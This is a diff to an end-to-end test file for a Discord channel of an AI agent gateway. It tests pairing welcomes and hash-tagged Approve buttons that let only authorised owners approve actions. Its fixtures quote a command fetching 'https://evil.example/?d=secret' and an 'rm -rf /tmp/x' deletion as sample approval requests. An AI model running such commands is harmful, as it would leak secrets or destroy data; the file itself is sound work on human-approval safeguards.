@@ -19,8 +19,11 @@ import { CHAT_COMMANDS } from "../../inbound/commands.js";
 import { ChannelError } from "../channel.js";
 import { NOT_AN_APPROVER } from "../../inbound/front-desk.js";
 import { PreviewLedger } from "../common/preview-ledger.js";
+import { PAIRING_WELCOME } from "../common/pairing-welcome.js";
 
 const DM = "800000000000000001";
+/** The hash prefix an approval question's Approve buttons carry (approval-buttons.ts). */
+const HASH = "0123456789ab";
 
 let h: DiscordHarness | undefined;
 afterEach(async () => {
@@ -158,6 +161,12 @@ describe("discord channel end to end", () => {
     expect(code).toMatch(/^[A-Z2-9]{8}$/);
     expect(ai.requests).toHaveLength(0);
     expect(channel.pairing.approve(code, "discord")?.userId).toBe(BOB.id);
+    // Bob is told, once, in his DM (the gateway's pairing.approve and the channel's sweep both call
+    // this; the CLI's approval is found by the sweep).
+    expect(await channel.welcomePaired()).toBe(1);
+    expect(await channel.welcomePaired()).toBe(0);
+    const bobDm = discord.dmChannels.get(BOB.id) ?? "";
+    expect(discord.channelMessages(bobDm).map((m) => m.content)).toEqual([PAIRING_WELCOME]);
     discord.userMessage({ channelId: DM, content: "now?", author: BOB });
     await answered(discord, DM, (t) => t === "echo: now?", "the answer after approval");
     expect(ai.requests).toHaveLength(1);
@@ -326,11 +335,17 @@ describe("discord channel end to end", () => {
     await answered(discord, DM, (t) => t.includes("evil.example"), "the answer");
     await channel.send(CHAN, "fetch https://evil.example/?d=secret?", {
       approvalId: "ap9",
+      approvalHash: HASH,
       approvalShowAll: true,
     });
     // Bob is allowed (paired) but not the owner: his press is refused with a line, and the refusal
     // does not unfurl either.
-    const bob = discord.interaction({ channelId: CHAN, guildId: GUILD, user: BOB, customId: "approve:ap9" });
+    const bob = discord.interaction({
+      channelId: CHAN,
+      guildId: GUILD,
+      user: BOB,
+      customId: `approve:ap9:${HASH}`,
+    });
     await discord.waitFor(
       () => (discord.interactionCallbacks.get(bob.id) ?? []).length > 0,
       15_000,
@@ -370,12 +385,26 @@ describe("discord channel end to end", () => {
       },
     });
     const { discord, channel } = h;
-    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap1" });
+    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap1", approvalHash: HASH });
     const msg = discord.channelMessages(CHAN)[0];
-    expect(JSON.stringify(msg?.components)).toContain('"custom_id":"approve:ap1"');
+    // Approve carries the hash prefix of what the question showed; a press without it decides nothing.
+    expect(JSON.stringify(msg?.components)).toContain(`"custom_id":"approve:ap1:${HASH}"`);
     expect(JSON.stringify(msg?.components)).toContain('"custom_id":"deny:ap1"');
+    const bare = discord.interaction({ channelId: CHAN, guildId: GUILD, user: ANN, customId: "approve:ap1" });
+    await discord.waitFor(
+      () => (discord.interactionCallbacks.get(bare.id) ?? []).length > 0,
+      15_000,
+      "the bare press's answer",
+    );
+    expect(JSON.stringify(discord.interactionCallbacks.get(bare.id))).toContain("Unknown action.");
+    expect(decisions).toEqual([]);
 
-    const ix = discord.interaction({ channelId: CHAN, guildId: GUILD, user: ANN, customId: "approve:ap1" });
+    const ix = discord.interaction({
+      channelId: CHAN,
+      guildId: GUILD,
+      user: ANN,
+      customId: `approve:ap1:${HASH}`,
+    });
     await answered(
       discord,
       `interaction:${ix.token}`,
@@ -401,13 +430,13 @@ describe("discord channel end to end", () => {
       },
     });
     const { discord, channel } = h;
-    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap2" });
+    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap2", approvalHash: HASH });
     // A guild member who is not an allowed user presses the button: refused, the buttons stay.
     const bobPress = discord.interaction({
       channelId: CHAN,
       guildId: GUILD,
       user: BOB,
-      customId: "approve:ap2",
+      customId: `approve:ap2:${HASH}`,
     });
     await discord.waitFor(
       () => (discord.interactionCallbacks.get(bobPress.id) ?? []).length > 0,
@@ -432,7 +461,7 @@ describe("discord channel end to end", () => {
       channelId: CHAN,
       guildId: GUILD,
       user: ANN,
-      customId: "approve:ap2",
+      customId: `approve:ap2:${HASH}`,
     });
     await answered(discord, `interaction:${annPress.token}`, (t) => t === "Approved ap2.", "the approval");
     expect(decisions).toEqual([["ap2", "approved"]]);
